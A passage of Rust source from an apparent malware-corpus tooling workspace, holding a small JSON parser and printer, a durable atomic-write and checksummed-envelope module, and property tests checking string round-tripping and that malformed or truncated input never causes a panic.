            let next = if i % 3 == 0 {
                gen.fresh(&mut rng)
            } else {
                gen.sibling(&prev, &mut rng)
            };
            // PackageName construction validates; uniqueness must hold.
            prop_assert!(seen.insert(next.clone()), "duplicate {}", next);
            // Sibling chains must not grow without bound.
            prop_assert!(next.as_str().len() <= 64, "name too long: {}", next);
            prev = next;
        }
    }
}
