//! Property tests for string round-tripping (ISSUE 8 satellite).
//!
//! The corpus exporter writes package names, code archives, and report
//! titles straight through [`jsonio::Value::Str`]; if any Unicode scalar
//! — in particular the C0 controls U+0000–U+001F, which RFC 8259 §7
//! forbids raw inside strings — failed to round-trip, an exported corpus
//! would either be rejected on import or silently alter package
//! identities. These properties pin `parse(write(s)) == s` for arbitrary
//! strings under both printers, plus the escape forms the parser must
//! reject.

use jsonio::Value;
use proptest::prelude::*;

/// Strings biased towards the troublesome ranges: C0 controls, the
/// escape-relevant ASCII characters, surrogate-adjacent scalars, and
/// astral-plane characters that encode as `\uXXXX` surrogate pairs.
fn tricky_string() -> impl Strategy<Value = String> {
    let tricky_char = prop_oneof![
        (0u32..0x20).prop_map(|c| char::from_u32(c).unwrap()),
        Just('"'),
        Just('\\'),
        Just('/'),
        // Scalars adjacent to the surrogate range (which `char` itself
        // can never hold) and astral-plane characters.
        Just('\u{D7FF}'),
        Just('\u{E000}'),
        Just('\u{FFFD}'),
        Just('🦀'),
        // The vendored proptest has no `Arbitrary for char`; draw any
        // scalar value by code point, mapping the surrogate gap away.
        (0u32..0x11_0000).prop_map(|n| char::from_u32(n).unwrap_or('\u{FFFD}')),
    ];
    proptest::collection::vec(tricky_char, 0..64).prop_map(|cs| cs.into_iter().collect())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn strings_round_trip_compact_and_pretty(s in tricky_string()) {
        let value = Value::Str(s.clone());
        for rendered in [value.to_compact(), value.to_pretty()] {
            // The writer must emit escapes for every control character;
            // a raw C0 byte in the output would be rejected on parse.
            prop_assert!(
                !rendered.chars().any(|c| (c as u32) < 0x20),
                "raw control character in rendered JSON: {rendered:?}"
            );
            let back = Value::parse(&rendered)
                .map_err(|e| TestCaseError::fail(format!("{e} in {rendered:?}")))?;
            prop_assert_eq!(back.as_str(), Some(s.as_str()));
        }
    }

    #[test]
    fn strings_survive_nesting_in_documents(key in tricky_string(), s in tricky_string()) {
        let doc = Value::Object(vec![
            (key.clone(), Value::Array(vec![Value::Str(s.clone()), Value::Null])),
        ]);
        for rendered in [doc.to_compact(), doc.to_pretty()] {
            let back = Value::parse(&rendered)
                .map_err(|e| TestCaseError::fail(format!("{e} in {rendered:?}")))?;
            prop_assert_eq!(&back, &doc);
        }
    }

    #[test]
    fn control_chars_are_emitted_as_escapes(c in 0u32..0x20) {
        let c = char::from_u32(c).unwrap();
        let rendered = Value::Str(c.to_string()).to_compact();
        let expected = match c {
            '\n' => "\"\\n\"".to_string(),
            '\r' => "\"\\r\"".to_string(),
            '\t' => "\"\\t\"".to_string(),
            '\u{0008}' => "\"\\b\"".to_string(),
            '\u{000C}' => "\"\\f\"".to_string(),
            c => format!("\"\\u{:04x}\"", c as u32),
        };
        prop_assert_eq!(rendered, expected);
    }

    #[test]
    fn lone_surrogate_escapes_are_rejected(n in 0xD800u32..0xE000) {
        // A `\uXXXX` escape naming a surrogate is only valid as half of
        // a correctly ordered pair; on its own it must not parse.
        let doc = format!("\"\\u{n:04x}\"");
        prop_assert!(Value::parse(&doc).is_err(), "{doc} should be rejected");
    }
}
