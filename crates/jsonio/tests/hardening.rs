//! Parser and envelope hardening (ISSUE 10 satellite).
//!
//! Recovery reads checkpoint and journal files that a crash may have
//! truncated mid-byte or that disk faults may have flipped bits in; the
//! fallback ladder only works if every such read surfaces a typed error
//! instead of panicking. These properties feed the parser and the sealed
//! envelope arbitrary garbage, plus truncations and single-byte
//! mutations of well-formed documents, and assert the call always
//! *returns*.

use jsonio::durable::open_sealed;
use jsonio::{object, Value};
use proptest::prelude::*;

/// A representative exported manifest shape: nested objects, arrays,
/// every scalar kind, and strings with escapes.
fn sample_manifest() -> Value {
    object! {
        "format_version": 3i64,
        "collect_time": 172.5,
        "packages": Value::Array(vec![
            object! {
                "id": "npm/event-stream",
                "mentions": Value::Array(vec![Value::Int(7), Value::Int(12)]),
                "archive": Value::Null,
                "flagged": true,
            },
            object! {
                "id": "pypi/colou\u{0000}rama",
                "mentions": Value::Array(vec![]),
                "archive": "aGVsbG8=",
                "flagged": false,
            },
        ]),
        "health": object! { "retries": 4i64, "rate": 0.03125 },
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    /// Arbitrary byte soup (lossily decoded, as a reader would) never
    /// panics the parser.
    #[test]
    fn arbitrary_bytes_never_panic(bytes in proptest::collection::vec(any::<u8>(), 0..256)) {
        let text = String::from_utf8_lossy(&bytes);
        let _ = Value::parse(&text);
    }

    /// Truncating an exported manifest at any char boundary either
    /// parses (full length) or returns an error — never panics.
    #[test]
    fn truncated_manifest_never_panics(cut_frac in 0.0f64..1.0, pretty in any::<bool>()) {
        let doc = sample_manifest();
        let rendered = if pretty { doc.to_pretty() } else { doc.to_compact() };
        let mut cut = (rendered.len() as f64 * cut_frac) as usize;
        while !rendered.is_char_boundary(cut) {
            cut -= 1;
        }
        let truncated = &rendered[..cut];
        if let Ok(v) = Value::parse(truncated) {
            prop_assert_eq!(v, doc, "only the full document may parse");
        }
    }

    /// Flipping bits of one byte of a manifest (re-decoded lossily)
    /// never panics the parser.
    #[test]
    fn mutated_manifest_never_panics(pos_frac in 0.0f64..1.0, flip in 1u8..=255) {
        let rendered = sample_manifest().to_compact();
        let mut bytes = rendered.into_bytes();
        let pos = ((bytes.len() - 1) as f64 * pos_frac) as usize;
        bytes[pos] ^= flip;
        let text = String::from_utf8_lossy(&bytes);
        let _ = Value::parse(&text);
    }

    /// The sealed-envelope reader returns a typed error on arbitrary
    /// garbage — and any mutation of a valid envelope's header or body
    /// length is caught by framing alone (checksum mismatches in the
    /// body are the caller's digest comparison).
    #[test]
    fn sealed_envelope_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..256)) {
        let text = String::from_utf8_lossy(&bytes);
        let _ = open_sealed(&text, "malgraph-checkpoint/1");
    }

    /// Truncating a sealed envelope anywhere makes it unreadable —
    /// there is no prefix of a valid envelope that still opens.
    #[test]
    fn truncated_envelope_always_rejected(cut_frac in 0.0f64..1.0) {
        let body = sample_manifest().to_compact();
        let sealed = jsonio::durable::seal("malgraph-checkpoint/1", "deadbeef", &body);
        let mut cut = (sealed.len() as f64 * cut_frac) as usize;
        if cut == sealed.len() {
            cut -= 1;
        }
        while !sealed.is_char_boundary(cut) {
            cut -= 1;
        }
        prop_assert!(open_sealed(&sealed[..cut], "malgraph-checkpoint/1").is_err());
    }
}
