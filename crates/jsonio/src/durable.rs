//! Durable file I/O: atomic write-rename plus a checksummed envelope.
//!
//! The checkpoint subsystem (and every `--*-out` export flag) must never
//! leave a half-written file behind: a crash mid-write would otherwise
//! masquerade as a corrupt snapshot on the next run. Two layers provide
//! that guarantee:
//!
//! * [`write_atomic`] — write to a hidden temp sibling, `fsync` the file,
//!   `rename` over the destination, then `fsync` the directory so the
//!   rename itself is durable. A reader can observe the old contents or
//!   the new contents, never a torn mixture; a crash leaves at worst a
//!   stale `.….tmp` sibling, which writers overwrite and readers ignore.
//! * the **sealed envelope** — [`seal`] prefixes a body with a one-line
//!   header `<tag> sha256=<hex> len=<bytes>`; [`open_sealed`] validates
//!   the framing and length and returns the declared checksum alongside
//!   the body. Truncation (even by one byte) and tag/version mismatches
//!   are detected *before* the body is parsed; bit flips inside the body
//!   are caught by the caller comparing the declared checksum against a
//!   recomputed digest (the digest function stays with the caller, so
//!   this crate keeps zero dependencies).
//!
//! Every failure is a typed [`SealError`] or `io::Error` — no parse path
//! in this module panics on hostile input.

use std::fmt;
use std::fs::{self, File};
use std::io::{self, Write};
use std::path::{Path, PathBuf};

/// Why a sealed envelope failed to open.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SealError {
    /// The file has no header line at all (empty file, or no newline).
    MissingHeader,
    /// The header line is present but not of the `<tag> sha256=<hex>
    /// len=<n>` shape.
    MalformedHeader,
    /// The header names a different tag (wrong file kind or version).
    TagMismatch {
        /// Tag the reader expected.
        expected: String,
        /// Tag the header declared.
        found: String,
    },
    /// The body length does not match the header's `len` field — a torn
    /// or truncated write.
    Truncated {
        /// Byte count the header declared.
        declared: usize,
        /// Byte count actually present after the header.
        actual: usize,
    },
}

impl fmt::Display for SealError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            SealError::MissingHeader => write!(f, "missing envelope header"),
            SealError::MalformedHeader => write!(f, "malformed envelope header"),
            SealError::TagMismatch { expected, found } => {
                write!(f, "envelope tag mismatch: expected {expected:?}, found {found:?}")
            }
            SealError::Truncated { declared, actual } => write!(
                f,
                "envelope body truncated: header declares {declared} bytes, {actual} present"
            ),
        }
    }
}

impl std::error::Error for SealError {}

/// A successfully opened envelope: the declared checksum and the body.
/// The caller verifies `checksum` against its own digest of `body`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sealed {
    /// Hex checksum the header declared for the body.
    pub checksum: String,
    /// The body text, byte-for-byte as sealed.
    pub body: String,
}

/// The temp sibling `write_atomic` stages into: `.<name>.tmp` in the
/// same directory, so the final `rename` never crosses a filesystem.
fn temp_sibling(path: &Path) -> PathBuf {
    let name = path
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_else(|| "out".to_string());
    path.with_file_name(format!(".{name}.tmp"))
}

/// Writes `contents` to `path` atomically: temp sibling + `fsync` +
/// `rename` + directory `fsync`. After a crash at any point, `path`
/// holds either its previous contents or `contents` in full.
///
/// # Errors
///
/// Propagates any I/O error from the create/write/sync/rename sequence;
/// on error the destination is untouched (a temp sibling may remain).
pub fn write_atomic(path: &Path, contents: &[u8]) -> io::Result<()> {
    let tmp = temp_sibling(path);
    {
        let mut file = File::create(&tmp)?;
        file.write_all(contents)?;
        file.sync_all()?;
    }
    fs::rename(&tmp, path)?;
    sync_parent_dir(path);
    Ok(())
}

/// Best-effort `fsync` of `path`'s parent directory, making the rename
/// itself durable. Directory handles cannot be opened for syncing on
/// every platform; failures are ignored — the data file is already
/// synced, only the rename's durability is best-effort off Unix.
fn sync_parent_dir(path: &Path) {
    if let Some(parent) = path.parent() {
        let dir = if parent.as_os_str().is_empty() {
            Path::new(".")
        } else {
            parent
        };
        if let Ok(handle) = File::open(dir) {
            let _ = handle.sync_all();
        }
    }
}

/// Builds a sealed document: `<tag> sha256=<hex> len=<bytes>\n<body>`.
///
/// `tag` doubles as a format-version marker (e.g.
/// `malgraph-checkpoint/1`); bump it to invalidate old readers. The
/// checksum is computed by the caller over exactly `body`.
pub fn seal(tag: &str, checksum: &str, body: &str) -> String {
    let mut out = String::with_capacity(body.len() + tag.len() + checksum.len() + 32);
    out.push_str(tag);
    out.push_str(" sha256=");
    out.push_str(checksum);
    out.push_str(" len=");
    out.push_str(&body.len().to_string());
    out.push('\n');
    out.push_str(body);
    out
}

/// Atomically writes a sealed document to `path`.
///
/// # Errors
///
/// Propagates I/O errors from [`write_atomic`].
pub fn write_sealed(path: &Path, tag: &str, checksum: &str, body: &str) -> io::Result<()> {
    write_atomic(path, seal(tag, checksum, body).as_bytes())
}

/// Opens a sealed document: validates the header shape, the tag, and
/// the declared body length, and returns the checksum + body for the
/// caller to verify.
///
/// # Errors
///
/// Returns a [`SealError`] describing exactly what failed; never
/// panics, whatever the input.
pub fn open_sealed(text: &str, tag: &str) -> Result<Sealed, SealError> {
    let Some((header, body)) = text.split_once('\n') else {
        return Err(SealError::MissingHeader);
    };
    let mut fields = header.split(' ');
    let found_tag = fields.next().unwrap_or("");
    if found_tag != tag {
        // Distinguish "different kind/version of file" from "not an
        // envelope at all": a tag always contains a '/' version marker.
        if found_tag.contains('/') {
            return Err(SealError::TagMismatch {
                expected: tag.to_string(),
                found: found_tag.to_string(),
            });
        }
        return Err(SealError::MalformedHeader);
    }
    let checksum = match fields.next().and_then(|f| f.strip_prefix("sha256=")) {
        Some(hex) if !hex.is_empty() && hex.bytes().all(|b| b.is_ascii_hexdigit()) => hex,
        _ => return Err(SealError::MalformedHeader),
    };
    let declared = match fields.next().and_then(|f| f.strip_prefix("len=")) {
        Some(n) => match n.parse::<usize>() {
            Ok(n) => n,
            Err(_) => return Err(SealError::MalformedHeader),
        },
        None => return Err(SealError::MalformedHeader),
    };
    if fields.next().is_some() {
        return Err(SealError::MalformedHeader);
    }
    if body.len() != declared {
        return Err(SealError::Truncated {
            declared,
            actual: body.len(),
        });
    }
    Ok(Sealed {
        checksum: checksum.to_string(),
        body: body.to_string(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn seal_round_trips() {
        let sealed = seal("test-tag/1", "abc123", "hello\nworld");
        let opened = open_sealed(&sealed, "test-tag/1").unwrap();
        assert_eq!(opened.checksum, "abc123");
        assert_eq!(opened.body, "hello\nworld");
    }

    #[test]
    fn empty_body_round_trips() {
        let sealed = seal("t/1", "00", "");
        assert_eq!(open_sealed(&sealed, "t/1").unwrap().body, "");
    }

    #[test]
    fn truncation_is_detected_at_every_length() {
        let sealed = seal("t/1", "abcd", "a body long enough to truncate");
        for cut in 0..sealed.len() {
            let result = open_sealed(&sealed[..cut], "t/1");
            assert!(result.is_err(), "cut at {cut} must not open");
        }
    }

    #[test]
    fn tag_and_header_mismatches_are_typed() {
        let sealed = seal("t/2", "abcd", "body");
        assert!(matches!(
            open_sealed(&sealed, "t/1"),
            Err(SealError::TagMismatch { .. })
        ));
        assert_eq!(open_sealed("", "t/1"), Err(SealError::MissingHeader));
        assert_eq!(open_sealed("junk", "t/1"), Err(SealError::MissingHeader));
        assert_eq!(open_sealed("junk\nbody", "t/1"), Err(SealError::MalformedHeader));
        assert_eq!(
            open_sealed("t/1 sha256= len=4\nbody", "t/1"),
            Err(SealError::MalformedHeader),
            "empty checksum rejected"
        );
        assert_eq!(
            open_sealed("t/1 sha256=zz len=4\nbody", "t/1"),
            Err(SealError::MalformedHeader),
            "non-hex checksum rejected"
        );
        assert_eq!(
            open_sealed("t/1 sha256=ab len=nan\nbody", "t/1"),
            Err(SealError::MalformedHeader)
        );
        assert_eq!(
            open_sealed("t/1 sha256=ab len=4 extra\nbody", "t/1"),
            Err(SealError::MalformedHeader)
        );
    }

    #[test]
    fn length_mismatch_reports_both_counts() {
        let sealed = seal("t/1", "abcd", "12345678");
        let cut = &sealed[..sealed.len() - 3];
        assert_eq!(
            open_sealed(cut, "t/1"),
            Err(SealError::Truncated {
                declared: 8,
                actual: 5
            })
        );
    }

    #[test]
    fn write_atomic_replaces_and_cleans_its_temp() {
        let dir = std::env::temp_dir().join(format!("jsonio-durable-{}", std::process::id()));
        fs::create_dir_all(&dir).unwrap();
        let path = dir.join("out.json");
        write_atomic(&path, b"first").unwrap();
        assert_eq!(fs::read(&path).unwrap(), b"first");
        write_atomic(&path, b"second").unwrap();
        assert_eq!(fs::read(&path).unwrap(), b"second");
        assert!(!temp_sibling(&path).exists(), "temp sibling must be renamed away");
        fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn write_sealed_then_read_back() {
        let dir = std::env::temp_dir().join(format!("jsonio-sealed-{}", std::process::id()));
        fs::create_dir_all(&dir).unwrap();
        let path = dir.join("snap.json");
        write_sealed(&path, "t/1", "cafe", "{\"k\": 1}").unwrap();
        let text = fs::read_to_string(&path).unwrap();
        let opened = open_sealed(&text, "t/1").unwrap();
        assert_eq!(opened.checksum, "cafe");
        assert_eq!(opened.body, "{\"k\": 1}");
        fs::remove_dir_all(&dir).unwrap();
    }
}
