//! Minimal JSON reader/writer used by the corpus exporter and the bench
//! harness.
//!
//! The workspace builds fully offline, so instead of serde this crate
//! provides one [`Value`] tree with an RFC 8259 parser and two printers
//! (compact and pretty). Design points that callers rely on:
//!
//! * **Objects preserve insertion order** (`Vec<(String, Value)>`), so an
//!   exported manifest is byte-stable across runs and diffs cleanly.
//! * The pretty printer separates keys with `": "` (colon-space) — the
//!   crawler's tamper-detection tests splice exported text on exactly
//!   that shape.
//! * Integers round-trip through `i64`; `u64` values beyond `i64::MAX`
//!   are out of scope for the simulator's ranges and rejected at build
//!   time by `From` impls rather than silently truncated.

#![forbid(unsafe_code)]

pub mod durable;

use std::fmt;

/// One JSON value.
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    /// `null`
    Null,
    /// `true` / `false`
    Bool(bool),
    /// A number without fractional part or exponent.
    Int(i64),
    /// Any other number.
    Float(f64),
    /// A string.
    Str(String),
    /// An array.
    Array(Vec<Value>),
    /// An object; insertion order is preserved.
    Object(Vec<(String, Value)>),
}

/// A parse failure, with a byte offset into the input.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseError {
    /// Byte offset where parsing failed.
    pub offset: usize,
    /// What went wrong.
    pub message: &'static str,
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} at byte {}", self.message, self.offset)
    }
}

impl std::error::Error for ParseError {}

impl Value {
    /// Parses a complete JSON document; trailing garbage is an error.
    pub fn parse(input: &str) -> Result<Value, ParseError> {
        let mut p = Parser {
            bytes: input.as_bytes(),
            pos: 0,
        };
        p.skip_ws();
        let value = p.value()?;
        p.skip_ws();
        if p.pos != p.bytes.len() {
            return Err(p.err("trailing characters"));
        }
        Ok(value)
    }

    /// Compact rendering: `{"k":1,"v":[true,null]}`.
    pub fn to_compact(&self) -> String {
        let mut out = String::new();
        self.write_compact(&mut out);
        out
    }

    /// Pretty rendering with two-space indent and `": "` key separators.
    pub fn to_pretty(&self) -> String {
        let mut out = String::new();
        self.write_pretty(&mut out, 0);
        out
    }

    /// Member lookup on objects; `None` for other variants or a missing
    /// key.
    pub fn get(&self, key: &str) -> Option<&Value> {
        match self {
            Value::Object(members) => members.iter().find(|(k, _)| k == key).map(|(_, v)| v),
            _ => None,
        }
    }

    /// The string payload, if this is a string.
    pub fn as_str(&self) -> Option<&str> {
        match self {
            Value::Str(s) => Some(s),
            _ => None,
        }
    }

    /// The boolean payload, if this is a boolean.
    pub fn as_bool(&self) -> Option<bool> {
        match self {
            Value::Bool(b) => Some(*b),
            _ => None,
        }
    }

    /// Integer payload (only for [`Value::Int`]).
    pub fn as_i64(&self) -> Option<i64> {
        match self {
            Value::Int(n) => Some(*n),
            _ => None,
        }
    }

    /// Non-negative integer payload.
    pub fn as_u64(&self) -> Option<u64> {
        match self {
            Value::Int(n) if *n >= 0 => Some(*n as u64),
            _ => None,
        }
    }

    /// Numeric payload, widening integers.
    pub fn as_f64(&self) -> Option<f64> {
        match self {
            Value::Int(n) => Some(*n as f64),
            Value::Float(x) => Some(*x),
            _ => None,
        }
    }

    /// The element list, if this is an array.
    pub fn as_array(&self) -> Option<&[Value]> {
        match self {
            Value::Array(items) => Some(items),
            _ => None,
        }
    }

    /// The member list, if this is an object.
    pub fn as_object(&self) -> Option<&[(String, Value)]> {
        match self {
            Value::Object(members) => Some(members),
            _ => None,
        }
    }

    /// True for [`Value::Null`].
    pub fn is_null(&self) -> bool {
        matches!(self, Value::Null)
    }

    fn write_compact(&self, out: &mut String) {
        match self {
            Value::Null => out.push_str("null"),
            Value::Bool(true) => out.push_str("true"),
            Value::Bool(false) => out.push_str("false"),
            Value::Int(n) => out.push_str(&n.to_string()),
            Value::Float(x) => write_float(*x, out),
            Value::Str(s) => write_escaped(s, out),
            Value::Array(items) => {
                out.push('[');
                for (i, item) in items.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    item.write_compact(out);
                }
                out.push(']');
            }
            Value::Object(members) => {
                out.push('{');
                for (i, (key, value)) in members.iter().enumerate() {
                    if i > 0 {
                        out.push(',');
                    }
                    write_escaped(key, out);
                    out.push(':');
                    value.write_compact(out);
                }
                out.push('}');
            }
        }
    }

    fn write_pretty(&self, out: &mut String, depth: usize) {
        match self {
            Value::Array(items) if !items.is_empty() => {
                out.push_str("[\n");
                for (i, item) in items.iter().enumerate() {
                    if i > 0 {
                        out.push_str(",\n");
                    }
                    indent(out, depth + 1);
                    item.write_pretty(out, depth + 1);
                }
                out.push('\n');
                indent(out, depth);
                out.push(']');
            }
            Value::Object(members) if !members.is_empty() => {
                out.push_str("{\n");
                for (i, (key, value)) in members.iter().enumerate() {
                    if i > 0 {
                        out.push_str(",\n");
                    }
                    indent(out, depth + 1);
                    write_escaped(key, out);
                    out.push_str(": ");
                    value.write_pretty(out, depth + 1);
                }
                out.push('\n');
                indent(out, depth);
                out.push('}');
            }
            Value::Array(_) => out.push_str("[]"),
            Value::Object(_) => out.push_str("{}"),
            other => other.write_compact(out),
        }
    }
}

fn indent(out: &mut String, depth: usize) {
    for _ in 0..depth {
        out.push_str("  ");
    }
}

fn write_float(x: f64, out: &mut String) {
    if x.is_finite() {
        let rendered = x.to_string();
        out.push_str(&rendered);
        // `2.0f64.to_string()` is "2"; keep the fractional marker so the
        // value reads back as a float.
        if !rendered.contains('.') && !rendered.contains('e') && !rendered.contains("inf") {
            out.push_str(".0");
        }
    } else {
        // JSON has no NaN/Inf; represent them as null like serde_json.
        out.push_str("null");
    }
}

fn write_escaped(s: &str, out: &mut String) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            '\u{0008}' => out.push_str("\\b"),
            '\u{000C}' => out.push_str("\\f"),
            c if (c as u32) < 0x20 => {
                out.push_str(&format!("\\u{:04x}", c as u32));
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

struct Parser<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl<'a> Parser<'a> {
    fn err(&self, message: &'static str) -> ParseError {
        ParseError {
            offset: self.pos,
            message,
        }
    }

    fn skip_ws(&mut self) {
        while let Some(&b) = self.bytes.get(self.pos) {
            if b == b' ' || b == b'\t' || b == b'\n' || b == b'\r' {
                self.pos += 1;
            } else {
                break;
            }
        }
    }

    fn peek(&self) -> Option<u8> {
        self.bytes.get(self.pos).copied()
    }

    fn expect(&mut self, b: u8, message: &'static str) -> Result<(), ParseError> {
        if self.peek() == Some(b) {
            self.pos += 1;
            Ok(())
        } else {
            Err(self.err(message))
        }
    }

    fn literal(&mut self, word: &str, value: Value) -> Result<Value, ParseError> {
        if self.bytes[self.pos..].starts_with(word.as_bytes()) {
            self.pos += word.len();
            Ok(value)
        } else {
            Err(self.err("invalid literal"))
        }
    }

    fn value(&mut self) -> Result<Value, ParseError> {
        match self.peek() {
            Some(b'{') => self.object(),
            Some(b'[') => self.array(),
            Some(b'"') => Ok(Value::Str(self.string()?)),
            Some(b't') => self.literal("true", Value::Bool(true)),
            Some(b'f') => self.literal("false", Value::Bool(false)),
            Some(b'n') => self.literal("null", Value::Null),
            Some(b'-') | Some(b'0'..=b'9') => self.number(),
            _ => Err(self.err("expected a value")),
        }
    }

    fn object(&mut self) -> Result<Value, ParseError> {
        self.expect(b'{', "expected '{'")?;
        let mut members = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b'}') {
            self.pos += 1;
            return Ok(Value::Object(members));
        }
        loop {
            self.skip_ws();
            let key = self.string()?;
            self.skip_ws();
            self.expect(b':', "expected ':' after object key")?;
            self.skip_ws();
            let value = self.value()?;
            members.push((key, value));
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b'}') => {
                    self.pos += 1;
                    return Ok(Value::Object(members));
                }
                _ => return Err(self.err("expected ',' or '}'")),
            }
        }
    }

    fn array(&mut self) -> Result<Value, ParseError> {
        self.expect(b'[', "expected '['")?;
        let mut items = Vec::new();
        self.skip_ws();
        if self.peek() == Some(b']') {
            self.pos += 1;
            return Ok(Value::Array(items));
        }
        loop {
            self.skip_ws();
            items.push(self.value()?);
            self.skip_ws();
            match self.peek() {
                Some(b',') => self.pos += 1,
                Some(b']') => {
                    self.pos += 1;
                    return Ok(Value::Array(items));
                }
                _ => return Err(self.err("expected ',' or ']'")),
            }
        }
    }

    fn string(&mut self) -> Result<String, ParseError> {
        self.expect(b'"', "expected '\"'")?;
        let mut out = String::new();
        loop {
            let start = self.pos;
            // Fast path: copy the longest run without escapes or quotes.
            while let Some(&b) = self.bytes.get(self.pos) {
                if b == b'"' || b == b'\\' || b < 0x20 {
                    break;
                }
                self.pos += 1;
            }
            if self.pos > start {
                // The input is valid UTF-8 (it's a &str) and we only
                // stopped on ASCII delimiters, so this slice is too.
                out.push_str(
                    std::str::from_utf8(&self.bytes[start..self.pos])
                        .map_err(|_| self.err("invalid utf-8 in string"))?,
                );
            }
            match self.peek() {
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(out);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    out.push(self.escape()?);
                }
                _ => return Err(self.err("unterminated string")),
            }
        }
    }

    fn escape(&mut self) -> Result<char, ParseError> {
        let b = self.peek().ok_or_else(|| self.err("truncated escape"))?;
        self.pos += 1;
        Ok(match b {
            b'"' => '"',
            b'\\' => '\\',
            b'/' => '/',
            b'n' => '\n',
            b'r' => '\r',
            b't' => '\t',
            b'b' => '\u{0008}',
            b'f' => '\u{000C}',
            b'u' => {
                let first = self.hex4()?;
                if (0xD800..0xDC00).contains(&first) {
                    // High surrogate: a \uXXXX low surrogate must follow.
                    if self.peek() == Some(b'\\') {
                        self.pos += 1;
                        self.expect(b'u', "expected low surrogate")?;
                        let second = self.hex4()?;
                        if !(0xDC00..0xE000).contains(&second) {
                            return Err(self.err("invalid low surrogate"));
                        }
                        let combined =
                            0x10000 + ((first - 0xD800) << 10) + (second - 0xDC00);
                        char::from_u32(combined).ok_or_else(|| self.err("invalid surrogate pair"))?
                    } else {
                        return Err(self.err("lone high surrogate"));
                    }
                } else if (0xDC00..0xE000).contains(&first) {
                    return Err(self.err("lone low surrogate"));
                } else {
                    char::from_u32(first).ok_or_else(|| self.err("invalid \\u escape"))?
                }
            }
            _ => return Err(self.err("unknown escape")),
        })
    }

    fn hex4(&mut self) -> Result<u32, ParseError> {
        let end = self.pos + 4;
        if end > self.bytes.len() {
            return Err(self.err("truncated \\u escape"));
        }
        let digits =
            std::str::from_utf8(&self.bytes[self.pos..end]).map_err(|_| self.err("bad hex"))?;
        let value = u32::from_str_radix(digits, 16).map_err(|_| self.err("bad hex"))?;
        self.pos = end;
        Ok(value)
    }

    fn number(&mut self) -> Result<Value, ParseError> {
        let start = self.pos;
        if self.peek() == Some(b'-') {
            self.pos += 1;
        }
        let mut is_float = false;
        while let Some(b) = self.peek() {
            match b {
                b'0'..=b'9' => self.pos += 1,
                b'.' | b'e' | b'E' | b'+' | b'-' => {
                    is_float = true;
                    self.pos += 1;
                }
                _ => break,
            }
        }
        let text = std::str::from_utf8(&self.bytes[start..self.pos])
            .map_err(|_| self.err("bad number"))?;
        if is_float {
            text.parse::<f64>()
                .map(Value::Float)
                .map_err(|_| self.err("bad number"))
        } else {
            text.parse::<i64>()
                .map(Value::Int)
                .map_err(|_| self.err("bad number"))
        }
    }
}

impl From<bool> for Value {
    fn from(b: bool) -> Value {
        Value::Bool(b)
    }
}

impl From<i64> for Value {
    fn from(n: i64) -> Value {
        Value::Int(n)
    }
}

impl From<u64> for Value {
    fn from(n: u64) -> Value {
        Value::Int(i64::try_from(n).expect("u64 value exceeds the JSON integer range"))
    }
}

impl From<u32> for Value {
    fn from(n: u32) -> Value {
        Value::Int(i64::from(n))
    }
}

impl From<usize> for Value {
    fn from(n: usize) -> Value {
        Value::Int(i64::try_from(n).expect("usize value exceeds the JSON integer range"))
    }
}

impl From<f64> for Value {
    fn from(x: f64) -> Value {
        Value::Float(x)
    }
}

impl From<&str> for Value {
    fn from(s: &str) -> Value {
        Value::Str(s.to_string())
    }
}

impl From<String> for Value {
    fn from(s: String) -> Value {
        Value::Str(s)
    }
}

impl<T: Into<Value>> From<Option<T>> for Value {
    fn from(opt: Option<T>) -> Value {
        match opt {
            Some(v) => v.into(),
            None => Value::Null,
        }
    }
}

impl<T: Into<Value>> From<Vec<T>> for Value {
    fn from(items: Vec<T>) -> Value {
        Value::Array(items.into_iter().map(Into::into).collect())
    }
}

/// Builds an object value; members keep the call-site order.
#[macro_export]
macro_rules! object {
    ($($key:literal : $value:expr),* $(,)?) => {
        $crate::Value::Object(vec![
            $(($key.to_string(), $crate::Value::from($value))),*
        ])
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trips_compact_and_pretty() {
        let v = object! {
            "name": "left-pad",
            "count": 3u64,
            "ratio": 0.5,
            "flag": true,
            "missing": Option::<i64>::None,
            "deps": vec!["a", "b"],
        };
        for rendered in [v.to_compact(), v.to_pretty()] {
            assert_eq!(Value::parse(&rendered).unwrap(), v, "{rendered}");
        }
    }

    #[test]
    fn pretty_uses_colon_space_separators() {
        let v = object! { "code": "print(1)\n" };
        let pretty = v.to_pretty();
        assert!(pretty.contains("\"code\": \"print(1)\\n\""), "{pretty}");
    }

    #[test]
    fn object_order_is_preserved() {
        let parsed = Value::parse(r#"{"z":1,"a":2,"m":3}"#).unwrap();
        let keys: Vec<&str> = parsed
            .as_object()
            .unwrap()
            .iter()
            .map(|(k, _)| k.as_str())
            .collect();
        assert_eq!(keys, ["z", "a", "m"]);
    }

    #[test]
    fn escapes_round_trip() {
        let s = "quote \" slash \\ newline \n tab \t nul \u{0} unicode é漢🦀";
        let rendered = Value::Str(s.to_string()).to_compact();
        assert_eq!(Value::parse(&rendered).unwrap().as_str().unwrap(), s);
    }

    #[test]
    fn surrogate_pairs_decode() {
